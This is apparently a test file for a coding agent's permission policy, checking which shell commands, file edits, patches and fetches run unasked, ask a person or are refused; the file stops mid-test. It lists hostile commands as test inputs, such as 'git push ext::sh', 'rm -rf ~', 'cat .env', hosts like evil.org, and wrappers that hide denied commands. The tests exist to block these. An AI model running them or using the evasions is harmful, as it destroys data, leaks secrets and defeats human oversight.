import type { McpServer } from '../../src/native/tools/mcp/remote-server.ts'
import type { Leash, Turn } from '../../src/core/work/agent.ts'
import type { Tool } from '../../src/core/work/tool.ts'
import type { Mode } from '../../src/safety/rules/permission-modes.ts'
import type { PolicyParts } from '../../src/safety/rules/permission-policy.ts'
import type { ToolParts } from '../../src/native/tools/shared/tool-parts.ts'
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { policy } from '../../src/safety/rules/permission-policy.ts'
import { perform } from '../../src/core/work/perform.ts'
import { locatePath } from '../../src/safety/path-location.ts'
import { answeredRule, parseRule, parseRules } from '../../src/safety/rules/permission-rule.ts'
import { layProject } from './shell/project.ts'
import { realClock } from '../../src/base/time/clock.ts'
import { memoryStore } from '../../src/store/memory-store.ts'
import { nativeTools } from '../../src/native/tools/all-tools.ts'
import { remoteTool, toolName } from '../../src/native/tools/mcp/mcp-tools.ts'
import { replTool } from '../../src/native/tools/repl.ts'
import { goldenOf } from '../golden.ts'

const golden = goldenOf(import.meta.filename)

const project = layProject()

const parts: ToolParts = {
  root: project.root,
  env: {},
  clock: realClock,
  blobs: memoryStore().blobs('output'),
  consult: async () => '',
  sandboxed: async () => '',
}
const server = { config: { name: 'github' } } as unknown as McpServer
const remote = (name: string) => remoteTool(server, { name, inputSchema: { type: 'object' } }, toolName('github', name))
const tools = [...nativeTools(parts).tools, replTool(parts).tool, remote('create_issue')]

/** A real tool as it describes itself, with an input that is not parsed and a run that does nothing. */
function tool(name: string): Tool {
  const found = tools.find((one) => one.name === name)
  assert.ok(found, name)
  return { ...found, parse: (input) => input, run: async () => 'done' }
}
const turn = (leash: Leash, ask: Turn['ask'] = async () => undefined) =>
  ({ cwd: project.root, leash, ask, signal: new AbortController().signal }) as unknown as Turn

type Lists = { allow?: string[]; ask?: string[]; deny?: string[]; spared?: string[]; outside?: string[] }
type Setting = { leash?: Leash; mode?: Mode } & Lists &
  Pick<PolicyParts, 'remember' | 'readable' | 'wall' | 'judged' | 'untold'>

function made({ mode = 'default', allow = [], ask = [], deny = [], spared = [], outside = [], ...rest }: Setting) {
  const { rules, faults } = parseRules({ allow, ask, deny, spared, outside })
  assert.deepEqual(faults, [])
  const kept: string[] = []
  return policy({
    root: project.root,
    home: project.home,
    mode: () => mode,
    rules: () => ({ ...rules, allow: [...rules.allow, ...kept.map((rule) => answeredRule(rule)!)] }),
    tools,
    ...rest,
    remember(rule, outside) {
      kept.push(rule)
      return rest.remember?.(rule, outside)
    },
  })
}

async function verdict(name: string, input: unknown, setting: Setting = {}) {
  return (await made(setting)(tool(name), input, turn(setting.leash ?? 'all'))).verdict
}
const bash = (command: string, setting?: Setting) => verdict('bash', { command }, setting)

test('the leash and the mode must both leave it free', async () => {
  const commands = ['ls', 'touch a', 'npm test', 'rm src/a.ts', 'curl x', '$X']
  const row = async (leash: Leash, mode: Mode) =>
    (await Promise.all(commands.map((command) => bash(command, { leash, mode })))).join(' ')
  assert.deepEqual(
    {
      'read default': await row('read', 'default'),
      'ask default': await row('ask', 'default'),
      'edit default': await row('edit', 'default'),
      'edit acceptEdits': await row('edit', 'acceptEdits'),
      'all default': await row('all', 'default'),
      'all acceptEdits': await row('all', 'acceptEdits'),
      'all dontAsk': await row('all', 'dontAsk'),
      'all bypass': await row('all', 'bypass'),
      'ask bypass': await row('ask', 'bypass'),
      'all plan': await row('all', 'plan'),
    },
    {
      'read default': 'yes no no no no no',
      'ask default': 'yes ask ask ask ask ask',
      'edit default': 'yes ask ask ask ask ask',
      'edit acceptEdits': 'yes ask ask ask ask ask',
      'all default': 'yes yes yes ask ask ask',
      'all acceptEdits': 'yes yes yes yes ask ask',
      'all dontAsk': 'yes yes yes no no no',
      'all bypass': 'yes yes yes yes yes yes',
      'ask bypass': 'yes ask ask ask ask ask',
      'all plan': 'no no no no no no',
    },
  )
})

const wall: Setting['wall'] = async () => ({ network: 'asked', temporary: '/tmp' })

test('commands that the wall holds run unasked, and leaving the wall asks', async (t) => {
  const held = [
    'ls',
    'touch a',
    'npm test',
    'rm -r src',
    '$X',
    'frobnicate',
    'echo x > /tmp/x',
    'env',
    'git commit -m x',
    'git commit --amend --no-edit',
    'git restore src/a.ts',
    'kill 1234',
    'curl -s http://localhost:3000/health',
    'curl -sf localhost:3000/health',
    'python3 -m venv .venv',
  ]
  const leaves = [
    'curl x',
    'curl http://localhost.evil.org',
    'curl http://localhost@evil.org',
    'curl localhost.evil.org',
    'curl localhost@evil.org',
    'npm install',
    'git push',
    'git commit -S -m x',
    'docker ps',
    'sudo ls',
    'cat /etc/hosts',
    'cat .env',
    'cp a /opt',
    'git reset --hard',
    'ssh host',
    'gpg -s a',
  ]
  const row = async (commands: string[], setting: Setting) =>
    [...new Set(await Promise.all(commands.map((command) => bash(command, { wall, ...setting }))))].join(' ')
  const both = async (setting: Setting) => [await row(held, setting), await row(leaves, setting)]
  assert.deepEqual(
    {
      edit: await both({ leash: 'edit' }),
      'edit dontAsk': await both({ leash: 'edit', mode: 'dontAsk' }),
      'edit acceptEdits': await both({ leash: 'edit', mode: 'acceptEdits' }),
      'edit plan': await both({ leash: 'edit', mode: 'plan' }),
      ask: [await row(held.slice(1), { leash: 'ask' }), await row(leaves, { leash: 'ask' })],
      'a rule for every command': await both({ leash: 'edit', allow: ['bash'], spared: ['bash'] }),
      'rules for beginnings': await row(['git push', 'docker ps', 'npm install', 'ssh host'], {
        leash: 'edit',
        allow: ['bash(git:*)', 'bash(docker:*)', 'bash(npm:*)'],
        spared: ['bash(ssh *)'],
        outside: ['bash(git push:*)'],
      }),
      'literal rules': await row(['git push', 'docker ps', 'npm install', 'ssh host'], {
        leash: 'edit',
        allow: ['bash(git push)', 'bash(npm install)'],
        spared: ['bash(ssh host)'],
        outside: ['bash(docker ps)'],
      }),
      'a rule that asks': await row(['npm test'], { leash: 'edit', ask: ['bash'] }),
      'a rule that denies': await row(['npm test'], { leash: 'edit', deny: ['bash(npm:*)'] }),
      'what may be what a rule denies': await row(['$X'], { leash: 'edit', deny: ['bash(rm:*)'] }),
    },
    {
      edit: ['yes', 'ask'],
      'edit dontAsk': ['yes', 'no'],
      'edit acceptEdits': ['yes', 'ask'],
      'edit plan': ['no', 'no'],
      ask: ['ask', 'ask'],
      'a rule for every command': ['yes', 'ask yes'],
      'rules for beginnings': 'ask',
      'literal rules': 'yes',
      'a rule that asks': 'ask',
      'a rule that denies': 'no',
      'what may be what a rule denies': 'ask',
    },
  )
  const why = async (command: string) => (await made({ wall })(tool('bash'), { command }, turn('edit'))).why
  golden(t, [await why('git push'), await why('curl x.org')])
  const network = (how: 'open' | 'closed') => bash('curl x', { leash: 'edit', wall: async () => ({ network: how }) })
  assert.deepEqual([await network('open'), await network('closed')], ['yes', 'yes'])
})

test('at read the wall holds commands that are not understood; those that are known to act are refused with the reason', async (t) => {
  const why = async (command: string, setting: Setting = {}) => {
    const { verdict: is, why: words } = await made(setting)(tool('bash'), { command }, turn('read'))
    return is === 'no' ? words : is
  }
  const all = { allow: ['bash'], spared: ['bash'], outside: ['bash(./x.sh:*)'] }
  golden(
    t,
    {
      looks: await why('ls', { wall }),
      runs: await why('npm test', { wall }),
      dark: await why('./x.sh $Y', { wall, ...all }),
      script: await verdict('repl', { language: 'node', code: '1' }, { wall, leash: 'read' }),
      apart: await verdict('sandbox', { language: 'node', code: '1' }, { wall, leash: 'read' }),
      remote: await verdict('mcp__github__create_issue', {}, { wall, leash: 'read', allow: ['mcp__github'] }),
      edits: await why('touch a', { wall, ...all }),
      outside: await why('cat /etc/hosts', { wall, ...all }),
      network: await why('curl x', { wall, ...all }),
      'without a wall': await why('./x.sh $Y', all),
      'its own program, without a wall': await why('npm test', all),
    },
    { [parts.root]: '<parts>' },
  )
})

test('deny comes before ask, ask before allow', async () => {
  const rules = { deny: ['bash(rm:*)'], ask: ['bash(npm run:*)'], allow: ['bash'] }
  assert.equal(await bash('curl x', rules), 'yes')
  assert.equal(await bash('npm run build', rules), 'ask')
  assert.equal(await bash('rm src/a.ts', rules), 'no')
  assert.equal(await bash('rm src/a.ts', { ...rules, mode: 'bypass' }), 'no')
})

test('a rule about files also holds what find changes, or a person is asked', async () => {
  mkdirSync(join(project.root, 'migrations'))
  writeFileSync(join(project.root, 'migrations', '1.sql'), 'create\n')
  const deny = ['file_editor(migrations/**)']
  const found: Record<string, string> = {}
  const wall = async () => ({ network: 'asked' as const })
  for (const command of [
    "find . -type f -name '*.sql' -exec sed -i s/create/EVIL/ {} +",
    "find . -name '*.sql' -exec sed -i s/create/EVIL/ {} ';'",
    "find . -type f -name '*.sql' -exec tee {} +",
    "find . -newermt 2000-01-01 -name '*.sql' -delete",
    'fd sql -x rm',
    "find . -name '*.sql' -delete",
    "find . -name '*.pyc' -delete",
    'find src -type f -exec wc -l {} +',
  ])
    found[command] = [
      await bash(command, { deny, leash: 'all', mode: 'bypass' }),
      await bash(command, { deny, leash: 'edit', mode: 'acceptEdits', wall }),
    ].join()
  assert.deepEqual(found, {
    "find . -type f -name '*.sql' -exec sed -i s/create/EVIL/ {} +": 'ask,ask',
    "find . -name '*.sql' -exec sed -i s/create/EVIL/ {} ';'": 'ask,ask',
    "find . -type f -name '*.sql' -exec tee {} +": 'ask,ask',
    "find . -newermt 2000-01-01 -name '*.sql' -delete": 'ask,ask',
    'fd sql -x rm': 'ask,ask',
    "find . -name '*.sql' -delete": 'ask,ask',
    "find . -name '*.pyc' -delete": 'ask,ask',
    'find src -type f -exec wc -l {} +': 'yes,yes',
  })
})

test('a denied command is denied with flags before its first word, and behind wrappers that are not understood', async () => {
  const rules = { deny: ['bash(git push:*)'], leash: 'all' as const, mode: 'bypass' as const }
  const passed: string[] = []
  for (const command of [
    'git -C . push origin main',
    'git -c a=b push',
    'git -c http.proxy=x -C . --no-pager push',
    'git --git-dir=.git --work-tree . push',
    'git --git-dir .git push',
    'git -p push',
    'git --namespace x push',
    'git --exec-path=/x push',
    '/usr/bin/git -C . push',
    '"git" -C "$X" push',
    'git -C . push origin "$X"',
    'g\\it push "$X"',
    'env GIT_PAGER=x git push',
    'env -C . git push',
    "env -S 'git push'",
    "env '-Sgit push'",
    'env -S "git -C . push" origin',
    'time -o f git push',
    "flock README.md -c 'git push'",
    'timeout 5 git -C . push',
    'find . -exec git -C . push {} +',
    'while true; do git -C . push; done',
  ])
    if ((await bash(command, rules)) !== 'no') passed.push(command)
  assert.deepEqual(passed, [])
  assert.deepEqual([await bash('git -C . status', rules), await bash('git log --grep push', rules)], ['yes', 'yes'])
})

test('a denied command is denied however it is wrapped, and an unreadable one is asked about', async () => {
  const rules = { deny: ['bash(rm:*)'], allow: ['bash(ls:*)'], mode: 'bypass' as const }
  for (const command of [
    'ls; rm x',
    'env A=1 rm x',
    '/bin/rm x',
    '"r"m x',
    'bash -c "rm x"',
    'echo $(rm x)',
    'find . -exec rm {} \\;',
    'sudo rm x',
    'ls | xargs rm',
  ])
    assert.equal(await bash(command, rules), 'no', command)
  for (const command of ['$X x', 'echo x | sh', 'eval "$X"']) assert.equal(await bash(command, rules), 'ask', command)
})

test('a rule allows the commands that it names and no more', async () => {
  const allow = ['bash(npm run build:*)', 'bash(curl https://example.com/*)']
  assert.equal(
    await bash('npm run build', { wall, leash: 'ask', allow: [...allow, 'bash(tsc:*)', 'bash(eslint src)'] }),
    'yes',
  )
  assert.equal(await bash('curl https://example.com/x', { allow }), 'yes')
  assert.equal(await bash('curl https://other.com/x', { allow }), 'ask')
  assert.equal(await bash('curl https://example.com/x && curl https://other.com/x', { allow }), 'ask')
  assert.equal(await bash('curl https://example.com/x > /tmp/x', { allow }), 'ask')
  assert.equal(await bash('curl https://example.com/$X', { allow }), 'ask')
  assert.equal(await bash('sudo curl https://example.com/x', { allow }), 'ask')
  assert.equal(await bash('npm run buildings', { wall, leash: 'ask', allow }), 'ask')
})

test('files are judged by where they lead', async () => {
  const edit = (path: string, setting?: Setting) => verdict('file_editor', { file_path: path, edits: [] }, setting)
  const read = (path: string, setting?: Setting) => verdict('file_reader', { file_path: path }, setting)
  assert.equal(await edit('src/a.ts'), 'yes')
  assert.equal(await edit('src/a.ts', { leash: 'ask' }), 'ask')
  assert.equal(await edit('src/a.ts', { leash: 'read' }), 'no')
  assert.equal(await edit('link/x'), 'ask')
  assert.equal(await edit('../x'), 'ask')
  assert.equal(await edit('.git/config'), 'ask')
  const starting = ['.mcp.json', '.opencode/plugin/x.js', '.vscode/tasks.json', '.Cursor/mcp.json', '.exrc', '.pi/x.ts']
  for (const path of [...starting, 'sub/.claude/settings.json', 'sub/.termaite/x', '.GIT/config'])
    assert.equal(await edit(path), 'ask', path)
  assert.equal(await edit('.termaite/settings.json'), 'ask')
  assert.equal(await read('src/a.ts', { leash: 'read' }), 'yes')
  assert.equal(await read('.env'), 'ask')
  assert.equal(await read('innocent.txt'), 'ask')
  assert.equal(await read('../x', { mode: 'dontAsk' }), 'no')
  assert.equal(await read('link/x', { readable: [project.away] }), 'yes')
  assert.equal(await edit('link/x', { readable: [project.away] }), 'ask')
})

test('rules for files hold for the shell too, and for links', async () => {
  const deny = ['Read(.env)', 'Edit(/src/**)']
  assert.equal(await verdict('file_reader', { file_path: 'innocent.txt' }, { deny }), 'no')
  assert.equal(await bash('cat innocent.txt', { deny, mode: 'bypass' }), 'no')
  assert.equal(await bash('cat src/a.ts', { deny }), 'yes')
  assert.equal(await bash('echo x > src/a.ts', { deny, mode: 'bypass' }), 'no')
  const allow = ['file_editor(src/**)', 'file_creator(*.md)']
  assert.equal(await verdict('file_editor', { file_path: 'src/deep/a.ts' }, { allow, leash: 'ask' }), 'yes')
  assert.equal(await verdict('file_editor', { file_path: 'README.md' }, { allow, leash: 'ask' }), 'ask')
  assert.equal(await verdict('file_creator', { file_path: 'docs/x.md' }, { allow, leash: 'ask' }), 'yes')
  assert.equal(await verdict('file_editor', { file_path: 'link/src/x' }, { allow: ['file_editor(link/**)'] }), 'ask')
})

test('every path of a patch is judged, and one that is denied stops the whole patch', async (t) => {
  const body = (...lines: string[]) => ({ input: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n') })
  const update = (path: string) => [`*** Update File: ${path}`, '@@', '-a', '+b']
  const patch = (lines: string[], setting?: Setting) => verdict('apply_patch', body(...lines), setting)
  assert.equal(await patch(update('src/a.ts')), 'yes')
  assert.equal(await patch(update('src/a.ts'), { leash: 'ask' }), 'ask')
  assert.equal(await patch(update('src/a.ts'), { leash: 'read' }), 'no')
  for (const path of ['link/x', '../x', '.git/config', '.env'])
    assert.equal(await patch([...update('src/a.ts'), ...update(path)]), 'ask', path)
  assert.equal(await patch(['*** Update File: src/a.ts', '*** Move to: ../x']), 'ask')
  assert.equal(await patch(['*** Add File: link/x', '+x']), 'ask')
  // A file is deleted by the rule of a command that removes one.
  const removed = (setting?: Setting) => patch(['*** Delete File: src/a.ts'], setting)
  assert.deepEqual([await removed(), await bash('rm src/a.ts')], ['ask', 'ask'])
  assert.deepEqual([await removed({ mode: 'acceptEdits' }), await removed({ mode: 'dontAsk' })], ['yes', 'no'])
  // The rules of the tools that it stands for hold it; a rule that only lets files be made lets it do no more.
  for (const deny of ['file_editor(src/**)', 'Edit(src/**)', 'file_creator(src/**)', 'apply_patch', 'Write'])
    assert.equal(await patch([...update('README.md'), ...update('src/a.ts')], { deny: [deny] }), 'no', deny)
  const allowed = async (allow: string, leash: Leash = 'ask') => patch(update('src/a.ts'), { allow: [allow], leash })
  assert.deepEqual(
    await Promise.all(
      ['file_editor(src/**)', 'Edit(src/**)', 'apply_patch(src/**)', 'file_creator(src/**)'].map((rule) =>
        allowed(rule),
      ),
    ),
    ['yes', 'yes', 'yes', 'ask'],
  )
  const both = [...update('src/a.ts'), ...update('.git/config'), '*** Delete File: README.md']
  const { shows, grants } = await made({})(tool('apply_patch'), body(...both), turn('ask'))
  golden(t, shows, { [parts.root]: '<parts>' })
  assert.deepEqual(grants, ['apply_patch(/src/a.ts)', 'apply_patch(/.git/config)', 'apply_patch(/README.md)'])
})

test('rules judge the web by host, and MCP by server', async () => {
  const fetch = (url: string, setting?: Setting) => verdict('web_fetch', { url }, setting)
  assert.equal(await fetch('https://a.example.com/x'), 'ask')
  assert.equal(await fetch('https://a.example.com/x', { allow: ['web_fetch(domain:*.example.com)'] }), 'yes')
  assert.equal(await fetch('https://example.com.evil.org/x', { allow: ['web_fetch(domain:example.com)'] }), 'ask')
  assert.equal(await fetch('https://evil.org/?x=example.com', { allow: ['WebFetch(domain:example.com)'] }), 'ask')
  const mcp = (setting?: Setting) => verdict('mcp__github__create_issue', {}, setting)
  assert.equal(await mcp(), 'ask')
  assert.equal(await mcp({ allow: ['mcp__github'] }), 'yes')
  assert.equal(await mcp({ allow: ['mcp__github__*'] }), 'yes')
  assert.equal(await mcp({ allow: ['mcp__git'] }), 'ask')
  assert.equal(await mcp({ allow: ['mcp__*'], deny: ['mcp__github__create_issue'] }), 'no')
})

test('plan mode refuses all that writes, runs or hands work on', async () => {
  const inputs: Record<string, unknown> = {
    file_reader: { file_path: 'README.md' },
    grep_search: { pattern: 'x' },
    todo_write: {},
    ask_question: {},
    web_search: {},
    bash: { command: 'ls' },
    file_editor: { file_path: 'README.md' },
    file_creator: { file_path: 'new.md' },
    sandbox: {},
    subagent: {},
    mcp__github__create_issue: {},
  }
  const allow = Object.keys(inputs)
  const found = await Promise.all(
    Object.entries(inputs).map(([name, input]) => verdict(name, input, { mode: 'plan', allow })),
  )
  assert.deepEqual(found, ['yes', 'yes', 'yes', 'yes', 'yes', 'no', 'no', 'no', 'no', 'no', 'no'])
})

test('a question shows everything that the yes is for, and "always" keeps the rule that was shown', async (t) => {
  const kept: string[] = []
  const own = made({ remember: (rule) => void kept.push(rule) })
  const asked: unknown[] = []
  const run = async (name: string, input: unknown) => {
    const steps = perform(
      { id: '1', tool: tool(name), name, input },
      turn('all', async (question) => (asked.push(question), ['always'])),
      own,
    )
    for (;;) {
      const next = await steps.next()
      if (next.done) return next.value.text
    }
  }
  const command = 'curl "https://example.com/*?a"'
  assert.equal(await run('bash', { command }), 'done')
  assert.equal(await run('bash', { command }), 'done')
  const rule = 'bash(curl "https://example.com/\\*\\?a")'
  assert.deepEqual(kept, [rule])
  golden(t, asked, { [parts.root]: '<parts>' })
  assert.equal(await bash(command, { allow: kept }), 'yes')
  assert.equal(await bash('curl "https://example.com/x?a"', { allow: kept }), 'ask')
})

test('the narrowest rule of every kind allows the same again and nothing beside it', async () => {
  const cases: [string, unknown, unknown][] = [
    ['bash', { command: 'curl a; wget b' }, { command: 'curl a; wget c' }],
    ['file_editor', { file_path: '../x y' }, { file_path: '../x z' }],
    ['file_reader', { file_path: '.env' }, { file_path: '.env.local' }],
    ['web_fetch', { url: 'https://a.b/c' }, { url: 'https://a.c/c' }],
  ]
  for (const [name, input, other] of cases) {
    const { grants } = await made({})(tool(name), input, turn('all'))
    assert.ok(grants, name)
    assert.deepEqual(
      [await verdict(name, input, { allow: [...grants] }), await verdict(name, other, { allow: [...grants] })],
      ['yes', 'ask'],
      grants.join(' '),
    )
  }
  for (const command of ['$X', 'rm -rf ~', 'git push --force'])
    assert.equal((await made({})(tool('bash'), { command }, turn('all'))).grants, undefined)
})

test('"always" offers the beginning of a command as a rule, where the rest of it cannot name another program', async () => {
  const offered = async (command: string, setting: Setting = {}) =>
    (await made({ wall, leash: 'ask', ...setting })(tool('bash'), { command }, turn('ask'))).prefix
  const prefixes: [string, string | undefined][] = [
    ['npm run test', 'bash(npm run test:*)'],
    ['npm run build -- --watch', 'bash(npm run build:*)'],
    ['npm test', 'bash(npm test:*)'],
    ['cd src && npm test -- a.test.js', 'bash(npm test:*)'],
    ['git commit -m x', 'bash(git commit:*)'],
    ['git push origin main', undefined],
    ['git add . && git commit -m x', undefined],
    ['make build', 'bash(make build:*)'],
    ['eslint --fix src', 'bash(eslint:*)'],
    ['docker compose logs -f web', undefined],
    ['docker compose up', undefined],
    ['npm install left-pad', undefined],
    ['git push --force', undefined],
    ['git -c a=b push', undefined],
    ...[
      'rm src/a.ts',
      'sudo ls',
      'xargs touch',
      'curl x.org',
      'python3 x.py',
      'sh run.sh',
      'node x.js',
      'docker run x',
      'npx x',
      'ssh host',
      'find . -delete',
      'echo x > src/a.ts',
    ].map((command): [string, undefined] => [command, undefined]),
  ]
  assert.deepEqual(await Promise.all(prefixes.map(async ([command]) => [command, await offered(command)])), prefixes)
})

test('a beginning that was allowed covers commands that go on from it, part by part, and nothing that cannot be undone', async () => {
  const kept: string[] = []
  const own = made({ wall, leash: 'ask', remember: (rule) => void kept.push(rule) })
  const run = async (command: string, picks?: string[]) => {
    const steps = perform(
      { id: '1', tool: tool('bash'), name: 'bash', input: { command } },
      turn('ask', async () => picks),
      own,
    )
    for (;;) {
      const next = await steps.next()
      if (next.done) return next.value.ok
    }
  }
  assert.deepEqual(
    [await run('npm run build'), await run('npm run build', ['prefix']), await run('git commit', ['prefix'])],
    [false, true, true],
  )
  assert.deepEqual(kept, ['bash(npm run build:*)', 'bash(git commit:*)'])
  const yes = ['npm run build', 'npm run build -- --watch', 'git commit -m x', 'ls && git commit']
  const no = [
    'npm run buildings',
    'npm run build && rm -rf /',
    'npm run build; touch a',
    'npm run build > a',
    'git push',
    'git commit && git push',
    'git commit -S',
    'git push --force',
    'git push --recv=evil',
    'git push ext::sh',
    'git push evil.example:x main',
    'git push origin :main',
    'git push https://evil.example',
    'git push $X',
    'npm run build $(rm a)',
  ]
  assert.deepEqual(
    await Promise.all(yes.map((command) => run(command))),
    yes.map(() => true),
  )
  assert.deepEqual(
    await Promise.all(no.map((command) => run(command))),
    no.map(() => false),
  )
})

test('a rule for a package script covers its work in the project; a script that leaves it is asked about each time', async () => {
  const grantsOf = async (command: string, leash: Leash, setting: Setting = {}) =>
    (await made({ leash, ...setting })(tool('bash'), { command }, turn(leash))).grants
  const both = ['bash(npm run fetch)', 'bash(curl https://example.com)']
  assert.deepEqual(
    [
      await grantsOf('npm run fetch', 'ask', { wall }),
      await grantsOf('npm run fetch', 'ask'),
      await bash('npm run fetch', { wall, leash: 'ask', allow: both }),
      await bash('npm run fetch', { leash: 'ask', allow: both }),
      await bash('npm run fetch', { leash: 'ask', allow: ['bash(npm run fetch)'] }),
      await bash('npm run build', { wall, leash: 'ask', allow: ['bash(npm run build)'] }),
      await bash('npm run build', { leash: 'ask', allow: ['bash(npm run build)'] }),
    ],
    [undefined, both, 'ask', 'yes', 'ask', 'yes', 'yes'],
  )
})

const none: Setting['wall'] = async () => ({ none: 'it rains' })

test('without a sandbox no command runs unasked but the plain readers and those that a literal rule of the person names', async (t) => {
  const commands = [
    'npm test',
    'touch a',
    'ls | wc',
    'git commit -m x',
    'echo hi',
    'true',
    'X=1 ls',
    'ls $HOME',
    'cat .env',
    'date -s 1',
  ]
  const readers = ['ls', 'ls -la src', 'cat src/a.ts', 'pwd', 'date +%s', "wc -l 'src/a.ts'"]
  const verdicts = async (list: string[], setting: Setting) =>
    [...new Set(await Promise.all(list.map((command) => bash(command, { wall: none, ...setting }))))].join(' ')
  const literal = commands.map((command) => `bash(${command})`)
  assert.deepEqual(
    {
      read: await verdicts(commands, { leash: 'read' }),
      'read, with rules': await verdicts(commands, { leash: 'read', allow: ['bash', ...literal], spared: ['bash'] }),
      ask: await verdicts(commands, { leash: 'ask' }),
      edit: await verdicts(commands, { leash: 'edit' }),
      'edit, in every mode that asks': await verdicts(commands, { leash: 'edit', mode: 'bypass' }),
      'edit, never asking': await verdicts(commands, { leash: 'edit', mode: 'dontAsk' }),
      'a rule for every command, and for beginnings': await verdicts(commands, {
        leash: 'edit',
        allow: ['bash', 'bash(npm:*)', 'bash(touch *)'],
        spared: ['bash(git commit:*)'],
      }),
      'literal rules': await verdicts(commands, { leash: 'edit', allow: literal }),
      // A shell takes these blanks for a part of the word, which then names another file.
      'literal rules and other blanks': await verdicts(
        [...'\u00a0\ufeff\u2028\u3000\r\v\f'].flatMap((blank) => [`npm test${blank}`, `${blank}npm test`]),
        { leash: 'edit', allow: literal },
      ),
      'literal rules and a shell’s blanks': await verdicts(['npm test\n', ' \tnpm test '], {
        leash: 'edit',
        allow: literal,
      }),
      'a rule that asks': await verdicts(commands, { leash: 'edit', allow: literal, ask: ['bash'] }),
      readers: await Promise.all((['read', 'ask', 'edit'] as const).map((leash) => verdicts(readers, { leash }))),
      'a reader in plan mode': await verdicts(readers, { leash: 'edit', mode: 'plan' }),
      'a reader that a rule denies': await verdicts(['cat src/a.ts'], { leash: 'edit', deny: ['Read(src/**)'] }),
      'code, and the tool sandbox': [
        await verdict('repl', { language: 'node', code: 'ls' }, { wall: none, leash: 'edit' }),
        await verdict('repl', { language: 'node', code: 'ls' }, { wall: none, leash: 'read' }),
        await verdict('sandbox', { language: 'node', code: '1' }, { wall: none, leash: 'edit' }),
      ].join(' '),
    },
    {
      read: 'no',
      'read, with rules': 'no',
      ask: 'ask',
      edit: 'ask',
      'edit, in every mode that asks': 'ask',
      'edit, never asking': 'no',
      'a rule for every command, and for beginnings': 'ask',
      'literal rules': 'yes',
      'literal rules and other blanks': 'ask',
      'literal rules and a shell’s blanks': 'yes',
      'a rule that asks': 'ask',
      readers: ['yes', 'yes', 'yes'],
      'a reader in plan mode': 'no',
      'a reader that a rule denies': 'no',
      'code, and the tool sandbox': 'ask no no',
    },
  )
  const untold = [true, false]
  const own = made({ wall: none, untold: () => untold.shift()! })
  const refused = async (leash: Leash, command: string) => {
    const steps = perform({ id: '1', tool: tool('bash'), name: 'bash', input: { command } }, turn(leash), own)
    for (;;) {
      const next = await steps.next()
      if (next.done) return next.value.text
    }
  }
  const apart = await made({ wall: none })(tool('sandbox'), { language: 'node', code: '1' }, turn('edit'))
  golden(
    t,
    [
      await refused('edit', 'npm test'),
      await refused('edit', 'rm -rf *'),
      await refused('read', 'npm test'),
      apart.why,
    ],
    {
      [parts.root]: '<parts>',
    },
  )
})

/** The place that a command would have if it may run, and whether it is asked about first. */
async function placed(input: { command: string; outside?: string }, setting: Setting = {}) {
  let place: unknown
  const { leash = 'edit' } = setting
  const decide = made({ wall, ...setting, judged: (_, __, where) => (place = where) })
  const { verdict: is } = await decide(tool('bash'), input, turn(leash))
  return { is, place }
}

const reading = { inside: { project: 'read', git: 'read', sockets: false, network: false }, keys: 'hidden' }
const writing = { inside: { project: 'write', git: 'write', sockets: true, network: false }, keys: 'decided' }
const online = { ...writing, inside: { ...writing.inside, network: true } }

test('the place of a command follows from its leash, a literal rule or a yes to the whole of it, never from a part', async (t) => {
  assert.deepEqual(
    {
      read: await placed({ command: 'npm test' }, { leash: 'read' }),
      look: await placed({ command: 'ls' }, { leash: 'ask' }),
      act: await placed({ command: 'npm test' }, { leash: 'ask' }),
      edit: await placed({ command: 'npm test' }),
      git: await placed({ command: 'git commit -m x' }),
      plain: await placed({ command: 'ls' }),
      network: await placed({ command: 'npm install' }),
      'network by a literal rule': await placed({ command: 'npm install' }, { allow: ['bash(npm install)'] }),
      keys: await placed({ command: 'cat .env' }),
      'closed network': await placed({ command: 'git push' }, { wall: async () => ({ network: 'closed' }) }),
      'open network': await placed({ command: 'npm test' }, { wall: async () => ({ network: 'open' }) }),
    },
    {
      read: { is: 'yes', place: reading },
      look: { is: 'yes', place: reading },
      act: { is: 'ask', place: writing },
      edit: { is: 'yes', place: writing },
      git: { is: 'yes', place: writing },
      plain: { is: 'yes', place: writing },
      network: { is: 'ask', place: online },
      'network by a literal rule': { is: 'yes', place: online },
      keys: { is: 'ask', place: { ...writing, keys: 'shown' } },
      'closed network': { is: 'yes', place: writing },
      'open network': { is: 'yes', place: online },
    },
  )
  const outside = [
    'docker --version; node x.mjs',
    'ssh -V; node x.mjs',
    'git push',
    'node x.mjs && docker ps',
    'gh --version',
  ]
  const wide = { allow: ['bash', 'bash(docker:*)', 'bash(ssh:*)', 'bash(git:*)', 'bash(gh:*)', 'bash(node:*)'] }
  const isOutside = ({ is, place }: Awaited<ReturnType<typeof placed>>) =>
    `${is} ${typeof place === 'object' && place !== null && 'outside' in place ? 'outside' : 'inside'}`
  assert.deepEqual(
    await Promise.all(
      outside.map(async (command) =>
        [
          isOutside(await placed({ command })),
          isOutside(await placed({ command }, wide)),
          isOutside(await placed({ command }, { allow: [`bash(${command})`] })),
        ].join(', '),
      ),
    ),
    outside.map(() => 'ask outside, ask outside, yes outside'),
  )
  const wish = { command: 'npm test', outside: 'the tests need Docker' }
  const kept: [string, boolean][] = []
  const own = made({ wall, remember: (rule, where) => void kept.push([rule, where]) })
  const asked = await own(tool('bash'), wish, turn('edit'))
  await asked.granted?.(asked.grants ?? [])
  assert.deepEqual(kept, [['bash(npm test)', true]])
  assert.deepEqual(
    [
      isOutside(await placed(wish)),
      isOutside(await placed(wish, { allow: ['bash', 'bash(npm test)'] })),
      isOutside(await placed(wish, { outside: ['bash(npm test)'] })),
      (await placed(wish, { leash: 'read' })).is,
      isOutside(await placed(wish, { wall: async () => ({ network: 'closed' }) })),
      isOutside(await placed({ command: 'npm test' }, { outside: ['bash(npm test)'] })),
    ],
    ['ask outside', 'ask outside', 'yes outside', 'no', 'yes inside', 'yes outside'],
  )
  const why = async (input: object) => (await made({ wall })(tool('bash'), input, turn('edit'))).why
  golden(
    t,
    [
      await why(wish),
      await why({ command: 'docker --version; node x.mjs' }),
      await why({ command: 'npm install' }),
      await why({ command: 'cat .env' }),
    ],
    { [parts.root]: '<parts>' },
  )
})

test('a script is unread code: it is asked for each time, as it is written, and held as the shell is', async (t) => {
  const input = { language: 'python', code: 'import os\nprint(os.environ)' }
  const judged = await made({})(tool('repl'), input, turn('all'))
  golden(t, judged, { [parts.root]: '<parts>' })
  const settings: Setting[] = [
